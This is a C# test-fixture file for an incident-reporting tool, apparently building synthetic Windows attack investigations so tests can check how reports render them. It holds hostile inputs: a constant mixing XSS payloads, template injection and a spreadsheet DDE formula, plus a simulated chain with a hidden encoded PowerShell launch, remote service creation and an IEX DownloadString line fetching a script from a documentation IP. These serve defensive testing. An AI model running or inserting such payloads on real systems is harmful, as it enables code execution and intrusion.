using Stemma.Decoding;
using Stemma.Decoding.Behaviours;
using Stemma.Incidents;
using Stemma.Lineage;
using Stemma.Reports;
using Stemma.Sigma;
using Stemma.Tests.Lineage;

namespace Stemma.Tests.Reports;

/// <summary>Investigations made by hand, for what reports do with them.</summary>
internal static class Investigations
{
    /// <summary>What no page, table or picture may take for its own.</summary>
    public const string Hostile = "</script><script>alert(1)</script>]]>--><img src=x onerror=alert(2)>&amp;\"'` | \u0000\u001b[2J\u202e\u200b\ud800 \udfff\ufffe\uffff {{7*7}} \r\n=cmd|' /c calc'!A1";

    public static ReportSource Source { get; } = new([new ReportInput("logs/Security.evtx", 1_118_208, new string('a', 64)), new ReportInput("logs/a.zip!b.json", 12, "")], 605, 96, 1, "0.1.0");

    /// <summary>An attack over two machines, whole.</summary>
    public static Investigation TwoHosts { get; } = MakeTwoHosts();

    /// <summary>One in which every text that a log may hold is hostile.</summary>
    public static Investigation OfHostileText { get; } = MakeHostile();

    /// <summary>One incident after the other, each with so many processes, detections, moments and indicators.</summary>
    public static Investigation Many(int incidents, int each)
    {
        ProcessTree tree = Facts.Tree(Enumerable.Range(0, each).Select(i => Facts.Start(i, 100 + i, @"C:\x\" + i + ".exe", i == 0 ? -1 : 100 + (i % 7 * i / 7), command: new string('x', 3000))));
        SigmaRule rule = Rule("Something Runs", "T1059");
        LineageProcess[] processes = [.. tree.Processes()];
        IncidentDetection[] detections = [.. processes.Select(process => new IncidentDetection(rule, process, "A", process.Evidence, [new MatchedItem("CommandLine", process.CommandLine, "*xx*")]))];
        return new Investigation
        {
            Tree = tree,
            Incidents = [.. Enumerable.Range(0, incidents).Select(i => Incident($"{i:x8}", "Something Runs", ["A"], processes[0], [.. processes.Select((process, n) => new IncidentProcess(process, n == 0 ? ProcessRole.Root : ProcessRole.Descendant, process.Parent, null))], detections) with
            {
                Timeline = [.. processes.Select(process => new IncidentActivity(process.Start, "A", ActivityKind.File, process, "wrote " + process.CommandLine, process.Evidence))],
                Indicators = [.. processes.Select(process => new Indicator(IndicatorKind.File, process.Image, "ran", process.Evidence))],
            })],
        };
    }

    private static SigmaRule Rule(string title, params string[] techniques)
    {
        string tags = string.Join(", ", techniques.Select(technique => "attack." + technique.ToLowerInvariant()));
        SigmaRuleSet set = SigmaRuleReader.Parse($"title: {title}\nlevel: high\ntags: [{tags}]\nlogsource: {{product: windows, category: process_creation}}\ndetection:\n  s: {{a: b}}\n  condition: s\n", "rules/r.yml");
        return Assert.Single(set.Rules);
    }

    private static Incident Incident(string id, string title, string[] hosts, LineageProcess? root, IncidentProcess[] processes, IncidentDetection[] detections) => new()
    {
        Id = id,
        Title = title,
        Level = SigmaLevel.High,
        Score = 82,
        Terms = [new ScoreTerm("level", 40, "the worst detection is high"), new ScoreTerm("hosts", 15, "it reached a second machine"), new ScoreTerm("benign", -3, "administrators do this too")],
        Confidence = 0.9,
        Hosts = hosts,
        First = Facts.At(0),
        Last = Facts.At(1800),
        Root = new RootCause(InitialVector.Document, root, 0.8, "WINWORD.EXE started PowerShell.") { Techniques = ["T1204.002"], Evidence = root is null ? [] : [root.Evidence] },
        Techniques = ["T1059.001", "T1569.002"],
        Tactics = ["execution"],
        Processes = processes,
        Detections = detections,
    };

    private static Investigation MakeTwoHosts()
    {
        ProcessTree tree = Facts.Tree(
            Facts.Start(0, 10, @"C:\Windows\explorer.exe"),
            Facts.Start(10, 20, @"C:\Office\WINWORD.EXE", 10, command: "\"WINWORD.EXE\" /n \"Invoice 2231.docm\""),
            Facts.Start(20, 30, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", 20, command: "powershell.exe -NoP -W Hidden -e SQBFAFgA"),
            Facts.Start(40, 40, @"C:\Windows\System32\sc.exe", 30, command: @"sc.exe \\B create Updater binPath= C:\Windows\Temp\upd.exe"),
            Facts.Start(50, 4, "services.exe", host: "B"),
            Facts.Start(1750, 60, @"C:\Windows\Temp\upd.exe", 4, host: "B", command: @"C:\Windows\Temp\upd.exe -k run"));
        LineageProcess word = tree.One("WINWORD.EXE"), shell = tree.One("powershell.exe"), sc = tree.One("sc.exe"), service = tree.One("upd.exe");
        LineageEdge edge = new(EdgeKind.Service, sc, service, "Updater", new Evidence("logs/System.evtx", 4096, Facts.At(1700), "System 7045"));
        SigmaRule encoded = Rule("PowerShell Runs an Encoded Command", "T1059.001"), remote = Rule("A Service Runs a Program from a Folder of Users", "T1569.002");
        IncidentDetection[] detections =
        [
            new(encoded, shell, "A", shell.Evidence, [new MatchedItem("Image", shell.Image, @"*\powershell.exe"), new MatchedItem("CommandLine", shell.CommandLine, @"/\s-e\s+[A-Za-z0-9]+/i")]),
            new(remote, service, "B", service.Evidence, [new MatchedItem("Image", service.Image, @"*\temp\*"), new MatchedItem("ParentImage", null, "null")]),
        ];
        Incident incident = Incident("5f0c1a2b", "Phishing document to service persistence", ["A", "B"], word,
        [
            new(word, ProcessRole.Root, word.Parent, null) { IsParentOrdinary = true },
            new(shell, ProcessRole.Detected, word, null),
            new(sc, ProcessRole.Descendant, shell, null),
            new(service, ProcessRole.Detected, sc, edge),
        ], detections) with
        {
            Edges = [edge],
            Chains =
            [
                new IncidentChain("phishing", "Phishing to persistence",
                [
                    new ChainStep("T1204.002", "a document starts a program", false, true, [detections[0]]),
                    new ChainStep("T1055", "code goes into another process", true, false, []) { CouldBeShown = false, Reason = "no Sysmon 8 in these logs" },
                    new ChainStep("T1543.003", "a service is created", false, false, []) { Reason = "no rule fired" },
                ]),
            ],
            Scripts = [new LineageScript(shell, "s", "IEX (New-Object Net.WebClient)\n  .DownloadString('http://203.0.113.7/a.ps1')", false, shell.Evidence)],
            Timeline =
            [
                new(Facts.At(20), "A", ActivityKind.Process, shell, "powershell.exe 30 started", shell.Evidence),
                new(Facts.At(22), "A", ActivityKind.Network, shell, "connected to 203.0.113.7:80", shell.Evidence) { Count = 120 },
                new(Facts.At(1750), "B", ActivityKind.Persistence, service, "service Updater ran", service.Evidence),
            ],
            Indicators =
            [
                new(IndicatorKind.Hash, "SHA256=" + new string('B', 64), "upd.exe", service.Evidence),
                new(IndicatorKind.Address, "203.0.113.7", "powershell.exe 30 connected to it", shell.Evidence),
                new(IndicatorKind.Address, "2001:db8::1", "powershell.exe 30 connected to it", shell.Evidence),
                new(IndicatorKind.Domain, "update.example", "powershell.exe 30 looked it up", shell.Evidence),
                new(IndicatorKind.Url, "http://203.0.113.7/a.ps1", "in a script", shell.Evidence),
                new(IndicatorKind.File, @"C:\Windows\Temp\upd.exe", "run as a service", service.Evidence),
                new(IndicatorKind.Registry, @"HKLM\Software\Run\Updater", "set", shell.Evidence),
                new(IndicatorKind.Service, @"Updater: C:\Windows\Temp\upd.exe", "created by sc.exe 40", edge.Evidence),
                new(IndicatorKind.Task, "Cleaner", "registered", shell.Evidence),
                new(IndicatorKind.Pipe, @"\msagent_1", "made", shell.Evidence),
                new(IndicatorKind.Account, @"CORP\jdoe", "ran it", shell.Evidence),
            ],
            Impact = new IncidentImpact([@"CORP\jdoe"], ["A", "B"], [@"\\B\C$"], ["SYSTEM on B, by a service"], ["120 connections to 203.0.113.7; how much was sent is not in the logs"]),
            Story = ["WINWORD.EXE on A started powershell.exe with an encoded command.", "It made a service on B, which ran upd.exe as SYSTEM."],
            Questions = ["Whether the document came by mail: the logs of the mail server would tell."],
            Repeats = [new IncidentRepeat("C", Facts.At(3000), null)],
            LetGo = 2,
        };
        return new Investigation { Tree = tree, Incidents = [incident], Blind = [new BlindSpot("B", "windows/ps_script", 12, ["T1059.001"])], Unjoined = 4 };
    }

    private static Investigation MakeHostile()
    {
        ProcessTree tree = Facts.Tree(Facts.Start(1, 10, Hostile, command: Hostile, host: Hostile), Facts.Start(2, 20, @"C:\" + Hostile, 10, command: Hostile, host: Hostile));
        LineageProcess[] processes = [.. tree.Processes()];
        Evidence evidence = new(Hostile, 1, Facts.At(1), Hostile);
        LineageEdge edge = new(EdgeKind.File, processes[0], processes[1], Hostile, evidence);
        IncidentDetection detection = new(Rule("A Rule", "T1059"), processes[1], Hostile, evidence, [new MatchedItem(Hostile, Hostile, "*script*"), new MatchedItem("CommandLine", Hostile, "/(a+)+$/")]);
        Incident incident = Incident(Hostile, Hostile, [Hostile], processes[0], [new(processes[0], ProcessRole.Root, null, null), new(processes[1], ProcessRole.Detected, processes[0], edge)], [detection]) with
        {
            Edges = [edge],
            Terms = [new ScoreTerm(Hostile, 1, Hostile)],
            Techniques = [Hostile, "T1059", "T1059.001/../../x"],
            Root = new RootCause(InitialVector.Unknown, processes[0], 0.1, Hostile) { Techniques = [Hostile] },
            Chains = [new IncidentChain(Hostile, Hostile, [new ChainStep(Hostile, Hostile, true, false, [detection]) { Reason = Hostile }])],
            Scripts = [new LineageScript(processes[0], Hostile, Hostile, true, evidence)],
            Decoded = [new IncidentDecoded(processes[0], true, evidence, new DecodedArtifact([new Layer(0, -1, ScriptKind.PowerShell, "", Hostile), new Layer(1, 0, ScriptKind.JavaScript, Hostile, Hostile)], [], [Hostile]) { IsCut = true, Behaviours = [new Behaviour(Hostile, "T1059.001/../../x", "high", 1, 0, 1, Hostile)] })],
            Timeline = [new(Facts.At(1), Hostile, ActivityKind.Script, processes[0], Hostile, evidence), new(long.MaxValue, Hostile, ActivityKind.Script, null, Hostile, evidence)],
            Indicators = [.. Enum.GetValues<IndicatorKind>().Select(kind => new Indicator(kind, Hostile, Hostile, evidence))],
            Impact = new IncidentImpact([Hostile], [Hostile], [Hostile], [Hostile], [Hostile]),
            Story = [Hostile],
            Questions = [Hostile],
            Repeats = [new IncidentRepeat(Hostile, 0, null)],
        };
        return new Investigation { Tree = tree, Incidents = [incident], Blind = [new BlindSpot(Hostile, Hostile, 1, [Hostile])] };
    }
}
